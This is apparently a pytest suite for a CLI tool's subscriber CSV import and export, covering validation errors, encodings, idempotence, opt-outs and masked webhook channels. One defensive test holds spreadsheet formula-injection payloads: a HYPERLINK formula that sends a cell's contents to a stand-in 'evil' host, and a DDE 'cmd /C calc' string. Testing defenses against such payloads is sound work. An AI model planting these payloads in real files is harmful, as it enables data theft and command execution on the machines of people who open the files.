"""`jpixd subscribers import/export`: all rows or none, every bad row reported with its
line and column, UTF-8 or Shift_JIS, idempotent, and export round-trips."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from jpixd import cli
from jpixd.model import Subscriber
from jpixd.subscribers import parse_csv, to_csv
from tests.conftest import base_mapping, toml_dumps

HEADER = "email,name,organization,carriers,prefectures,kinds,services,windows," \
         "failure_respects_windows,charset,status,legacy_id\n"


def good_row(i: int) -> str:
    return (f"user{i}@isp{i % 7}.example.jp,担当{i},株式会社{i % 7},east;west,13;大阪府,"
            f"construction;failure,,day;night,{'true' if i % 2 else 'false'},,active,L{i}\n")


@pytest.fixture
def config(tmp_path: Path) -> Path:
    path = tmp_path / "jpixd.toml"
    path.write_text(toml_dumps(base_mapping(tmp_path)), encoding="utf-8")
    return path


def run(*args: str) -> int:
    return cli.main(list(args))


def test_three_bad_rows_among_a_thousand_import_nothing(
        tmp_path: Path, config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rows = [good_row(i) for i in range(1000)]
    rows[99] = "broken-address,x,,east,13,failure,,day,false,,active,\n"  # line 101
    rows[499] = "ok500@example.jp,x,,east,東亰都,failure,,day,maybe,,active,\n"  # line 501
    rows[899] = rows[10]  # line 901: the address of line 12 again
    path = tmp_path / "subs.csv"
    path.write_text(HEADER + "".join(rows), encoding="utf-8")

    assert run("subscribers", "import", str(path), "--config", str(config)) == cli.EXIT_CONFIG
    err = capsys.readouterr().err.splitlines()
    assert err == [
        f"{path}: line 101, column email: 'broken-address' is not an email address",
        f"{path}: line 501, column prefectures: '東亰都' is not a prefecture "
        "(a code 01–47 or a name such as 東京都)",
        f"{path}: line 501, column failure_respects_windows: must be true or false",
        f"{path}: line 901, column email: user10@isp3.example.jp repeats line 12",
        f"jpixd: nothing imported: 4 error(s) in {path}",
    ]
    assert run("subscribers", "export", "--config", str(config)) == cli.EXIT_OK
    assert capsys.readouterr().out == HEADER.replace("\n", ",channels\n")


def test_the_same_file_twice_creates_no_duplicates_and_export_round_trips(
        tmp_path: Path, config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "subs.csv"
    path.write_text(HEADER + "".join(good_row(i) for i in range(50)), encoding="utf-8")
    assert run("subscribers", "import", str(path), "--config", str(config)) == 0
    assert "50 created, 0 updated, 0 unchanged" in capsys.readouterr().out
    assert run("subscribers", "import", str(path), "--config", str(config)) == 0
    assert "0 created, 0 updated, 50 unchanged" in capsys.readouterr().out

    out = tmp_path / "export.csv"
    assert run("subscribers", "export", "--config", str(config), "--output", str(out)) == 0
    exported = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(exported) == 50
    assert exported[1]["prefectures"] == "13;27" and exported[1]["windows"] == "day;night"
    assert run("subscribers", "import", str(out), "--config", str(config)) == 0
    assert "0 created, 0 updated, 50 unchanged" in capsys.readouterr().out


def test_shift_jis_files_and_dry_runs(tmp_path: Path, config: Path,
                                      capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "sjis.csv"
    text = ("email,name,organization,prefectures\r\n"
            "sato@example.jp,佐藤 髙,株式会社ＮＴＴ例,北海道;沖縄県\r\n")
    path.write_bytes(text.encode("cp932"))
    assert run("subscribers", "import", str(path), "--config", str(config), "--dry-run") == 0
    assert "1 created, 0 updated, 0 unchanged (dry run: nothing written)" in \
        capsys.readouterr().out
    assert run("subscribers", "export", "--config", str(config)) == 0
    assert capsys.readouterr().out == HEADER.replace("\n", ",channels\n")
    assert run("subscribers", "import", str(path), "--config", str(config)) == 0
    capsys.readouterr()
    assert run("subscribers", "export", "--config", str(config)) == 0
    row = next(iter(csv.DictReader(io.StringIO(capsys.readouterr().out))))
    assert row["name"] == "佐藤 髙" and row["organization"] == "株式会社ＮＴＴ例"
    assert row["prefectures"] == "01;47"


def test_a_changed_row_updates_the_subscriber(tmp_path: Path, config: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "a.csv"
    path.write_text("email,kinds\nx@example.jp,failure\n")
    assert run("subscribers", "import", str(path), "--config", str(config)) == 0
    path.write_text("email,kinds\nx@example.jp,construction;failure\ny@example.jp,failure\n")
    assert run("subscribers", "import", str(path), "--config", str(config)) == 0
    assert "1 created, 1 updated, 0 unchanged" in capsys.readouterr().out


@pytest.mark.parametrize(("data", "error"), [
    (b"", "line 1: the file is empty (a header line with at least 'email' is needed)"),
    (b"name\nx\n", "line 1: no 'email' column"),
    (b"email,colour\nx@example.jp,blue\n",
     "line 1, column 'colour': unknown column (known: email, name, organization, carriers, "
     "prefectures, kinds, services, windows, failure_respects_windows, charset, status, "
     "legacy_id, channels)"),
    (b"email,name\nx@example.jp\n", "line 2: 1 columns, the header has 2"),
    (b"email\n\xff\xfe\xfd\n", "file: is neither UTF-8 nor Shift_JIS (byte 6)"),
])
def test_malformed_files(data: bytes, error: str) -> None:
    rows, errors = parse_csv(data)
    assert rows == [] and errors == [error]


def test_hostile_and_odd_files_are_refused_by_name_or_read_right() -> None:
    """Security probe L3, L4, L5."""
    euc = "email,name\na@isp.example.jp,山田太郎\n".encode("euc_jp")
    [row], errors = parse_csv(euc)
    assert errors == [] and row.subscriber.name == "山田太郎"
    rows, errors = parse_csv(b"\xef\xbb\xbf" + "email,name\na@x.jp,山田\n".encode("cp932"))
    assert rows == [] and "byte order mark" in errors[0]
    rows, errors = parse_csv(b"email,name\na@x.jp," + b"x" * 200_000 + b"\n")
    assert rows == [] and "field larger than field limit" in errors[0]
    rows, errors = parse_csv(b"email,email,name\na@x.jp,b@x.jp,n\n")
    assert rows == [] and "appears twice" in errors[0]
    for bad_name in ("a\u0085b", "a\u202eb", "a\u200bb"):
        rows, errors = parse_csv(f"email,name\na@x.jp,{bad_name}\n".encode())
        assert rows == [] and "control characters" in errors[0]
    kana = "あいうえおかきくけこさしすせそたちつてとなにぬねのはひふへほまみむ"  # 34
    long_domain = "a" * 64 + "@" + ".".join([kana] * 4) + ".jp"  # 211 characters
    rows, errors = parse_csv(f"email\n{long_domain}\n".encode())
    assert rows == [] and "254" in errors[0]
    rows, errors = parse_csv(b"email\na@127.0.0.1\n")
    assert rows == [] and "domain" in errors[0]


def test_export_defuses_spreadsheet_formulas_and_import_takes_them_back() -> None:
    sub = Subscriber(email="a@isp.example.jp", name='=HYPERLINK("http://evil/?"&A1,"x")',
                     organization="@SUM(1+1)*cmd|' /C calc'!A0")
    text = to_csv([sub])
    assert "\n" + "a@isp.example.jp,'=HYPERLINK" in text.replace('"', "")
    [row], errors = parse_csv(text.encode())
    assert errors == [] and row.subscriber.name == sub.name
    assert row.subscriber.organization == sub.organization


def test_a_partial_import_never_brings_an_opt_out_back(
        tmp_path: Path, config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Issue 13: re-importing email,name set unsubscribed subscribers active again and reset
    their windows, kinds and carriers. Only the file's columns change now, and an opt-out
    stays an opt-out unless --reactivate says otherwise."""
    full = tmp_path / "full.csv"
    full.write_text(HEADER + "".join(good_row(i) for i in range(3)).replace(
        "user1@isp1.example.jp", "gone@isp1.example.jp"), encoding="utf-8")
    assert run("subscribers", "import", str(full), "--config", str(config)) == 0
    optout = tmp_path / "optout.csv"
    optout.write_text("email,status\ngone@isp1.example.jp,unsubscribed\n", encoding="utf-8")
    assert run("subscribers", "import", str(optout), "--config", str(config)) == 0
    capsys.readouterr()

    names = tmp_path / "names.csv"
    names.write_text("email,name\ngone@isp1.example.jp,新しい名前\n"
                     "user0@isp0.example.jp,担当0\n", encoding="utf-8")
    assert run("subscribers", "import", str(names), "--config", str(config), "--dry-run") == 0
    out = capsys.readouterr().out
    assert "gone@isp1.example.jp: name '担当1' → '新しい名前'" in out
    assert "1 updated, 1 unchanged (dry run" in out
    areas = tmp_path / "areas.csv"
    areas.write_text("email,prefectures\ngone@isp1.example.jp,13\nuser0@isp0.example.jp,\n",
                     encoding="utf-8")
    assert run("subscribers", "import", str(areas), "--config", str(config), "--dry-run") == 0
    out = capsys.readouterr().out  # lists as an operator writes them, not Python's tuples
    assert "gone@isp1.example.jp: prefectures 13,27 → 13" in out
    assert "user0@isp0.example.jp: prefectures 13,27 → (all)" in out
    assert run("subscribers", "import", str(names), "--config", str(config)) == 0
    capsys.readouterr()
    by_email = exported(config, capsys)
    gone = by_email["gone@isp1.example.jp"]
    assert gone["status"] == "unsubscribed" and gone["name"] == "新しい名前"
    assert gone["windows"] == "day;night" and gone["prefectures"] == "13;27"  # untouched

    back = tmp_path / "back.csv"
    back.write_text("email,status\ngone@isp1.example.jp,active\n", encoding="utf-8")
    assert run("subscribers", "import", str(back), "--config", str(config)) == 0
    assert "1 left unsubscribed or suppressed" in capsys.readouterr().out
    assert exported(config, capsys)["gone@isp1.example.jp"]["status"] == "unsubscribed"
    assert run("subscribers", "import", str(back), "--config", str(config),
               "--reactivate") == 0
    capsys.readouterr()
    assert exported(config, capsys)["gone@isp1.example.jp"]["status"] == "active"


def exported(config: Path, capsys: pytest.CaptureFixture[str]) -> dict[str, dict[str, str]]:
    assert run("subscribers", "export", "--config", str(config)) == 0
    return {r["email"]: r for r in csv.DictReader(io.StringIO(capsys.readouterr().out))}


SLACK = "https://hooks.slack.com/services/T0AAAA/B0BBBB/s3cretSLACKabcd"
HOOK = "https://noc.example.jp/jpixd/hook-s3cretEFGH"


def test_channels_column_imports_exports_masked_and_round_trips(
        tmp_path: Path, config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Issue 26: a `channels` column of kind=url entries. The export shows each URL as
    the console does, never whole; importing the export changes nothing; a cell lists a
    subscriber's channels whole, so one left out is removed."""
    path = tmp_path / "subs.csv"
    path.write_text("email,kinds,channels\n"
                    f"a@isp.example.jp,failure,slack={SLACK};webhook={HOOK}\n"
                    "b@isp.example.jp,failure,\n", encoding="utf-8")
    assert run("subscribers", "import", str(path), "--config", str(config), "--dry-run") == 0
    dry = capsys.readouterr().out
    assert "a@isp.example.jp: channel added slack https://hooks.slack.com/…abcd" in dry
    assert "signing key" not in dry and "s3cret" not in dry
    assert run("subscribers", "import", str(path), "--config", str(config)) == 0
    out = capsys.readouterr().out
    [key_line] = [ln for ln in out.splitlines() if "signing key" in ln]
    assert key_line.strip().startswith(
        "a@isp.example.jp: channel added webhook https://noc.example.jp/…EFGH (signing key ")
    assert "s3cret" not in out

    exported = tmp_path / "export.csv"
    assert run("subscribers", "export", "--config", str(config), "--output", str(exported)) == 0
    text = exported.read_text(encoding="utf-8")
    assert "s3cret" not in text
    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(text))}
    assert rows["a@isp.example.jp"]["channels"] == (
        "slack=https://hooks.slack.com/…abcd;webhook=https://noc.example.jp/…EFGH")
    assert rows["b@isp.example.jp"]["channels"] == ""
    assert run("subscribers", "import", str(exported), "--config", str(config)) == 0
    again = capsys.readouterr().out  # the export, imported: no change
    assert "channel added" not in again and "channel removed" not in again

    # The webhook left out of a's cell: removed; the Slack one kept by its shown URL.
    path.write_text("email,channels\na@isp.example.jp,slack=https://hooks.slack.com/…abcd\n",
                    encoding="utf-8")
    assert run("subscribers", "import", str(path), "--config", str(config)) == 0
    assert "a@isp.example.jp: channel removed webhook https://noc.example.jp/…EFGH" in \
        capsys.readouterr().out

    # Mistakes: each said with its line and column; nothing changed.
    path.write_text("email,channels\na@isp.example.jp,discord=https://x.example.jp/a\n"
                    "b@isp.example.jp,slack=ftp://x.example.jp/a\n"
                    "c@isp.example.jp,https://x.example.jp/a\n", encoding="utf-8")
    assert run("subscribers", "import", str(path), "--config", str(config)) == cli.EXIT_CONFIG
    err = capsys.readouterr().err
    assert "line 2, column channels: 'discord=https://x.example.jp/a': must be one of" in err
    assert "line 3, column channels: 'slack=ftp://x.example.jp/a': must be https" in err
    assert "line 4, column channels: 'https://x.example.jp/a' is not kind=url" in err
    path.write_text("email,channels\na@isp.example.jp,teams=https://x.example.jp/…zzzz\n",
                    encoding="utf-8")
    assert run("subscribers", "import", str(path), "--config", str(config)) == cli.EXIT_CONFIG
    assert "no such channel to keep" in capsys.readouterr().err
    assert run("subscribers", "export", "--config", str(config)) == 0
    after = {r["email"]: r for r in csv.DictReader(io.StringIO(capsys.readouterr().out))}
    assert after["a@isp.example.jp"]["channels"] == "slack=https://hooks.slack.com/…abcd"


def test_sync_from_the_old_system_refuses_a_channels_column(
        tmp_path: Path, config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "old.csv"
    path.write_text(f"email,channels\na@isp.example.jp,slack={SLACK}\n", encoding="utf-8")
    assert run("subscribers", "sync", str(path), "--config", str(config)) == cli.EXIT_CONFIG
    assert "the old system has no channels" in capsys.readouterr().err
    assert run("subscribers", "export", "--config", str(config)) == 0
    assert "a@isp.example.jp" not in capsys.readouterr().out
